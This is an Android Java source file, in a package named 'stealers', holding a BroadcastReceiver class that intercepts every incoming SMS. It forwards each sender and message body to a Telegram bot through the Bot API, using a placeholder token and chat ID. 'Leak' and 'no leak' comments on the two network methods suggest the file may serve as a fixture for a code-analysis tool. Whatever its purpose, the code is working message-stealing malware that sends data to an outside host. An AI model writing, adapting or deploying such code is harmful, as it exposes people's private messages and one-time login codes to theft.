package stealers;

import android.content.*;
import android.provider.Telephony;
import android.telephony.SmsMessage;

import org.json.*;

import java.io.*;
import java.net.*;

/** A chat bot is told what comes in. */
public class SmsBot extends BroadcastReceiver {
    private static final String TOKEN = "123:ABC";
    private static final String CHAT = "998";

    @Override
    public void onReceive(final Context context, Intent intent) {
        final SmsMessage[] all = Telephony.Sms.Intents.getMessagesFromIntent(intent);
        final PendingResult result = goAsync();
        new Thread() {
            @Override
            public void run() {
                for (SmsMessage one : all) {
                    try {
                        JSONObject o = new JSONObject();
                        o.put("chat_id", CHAT);
                        o.put("text", String.format("*%s*: %s", one.getDisplayOriginatingAddress(), one.getDisplayMessageBody()));
                        send(o);
                        JSONObject count = new JSONObject().put("chat_id", CHAT).put("text", "got " + all.length);
                        ping(count);
                    } catch (JSONException e) {
                        continue;
                    }
                }
                result.finish();
            }
        }.start();
    }

    static void send(JSONObject o) {
        HttpURLConnection c = null;
        try {
            URL u = new URL("https://api.telegram.org/bot" + TOKEN + "/sendMessage");
            c = (HttpURLConnection) u.openConnection();
            c.setRequestMethod("POST");
            c.setDoOutput(true);
            c.setRequestProperty("Content-Type", "application/json");
            BufferedOutputStream out = new BufferedOutputStream(c.getOutputStream());
            out.write(o.toString().getBytes("UTF-8")); // leak
            out.flush();
            c.getResponseCode();
        } catch (IOException e) {
            e.printStackTrace();
        } finally {
            if (c != null) c.disconnect();
        }
    }

    static void ping(JSONObject o) {
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("https://api.telegram.org/bot" + TOKEN + "/sendMessage").openConnection();
            c.setDoOutput(true);
            OutputStream out = c.getOutputStream();
            out.write(o.toString().getBytes("UTF-8")); // no leak
            out.close();
        } catch (IOException e) {
            e.printStackTrace();
        }
    }
}
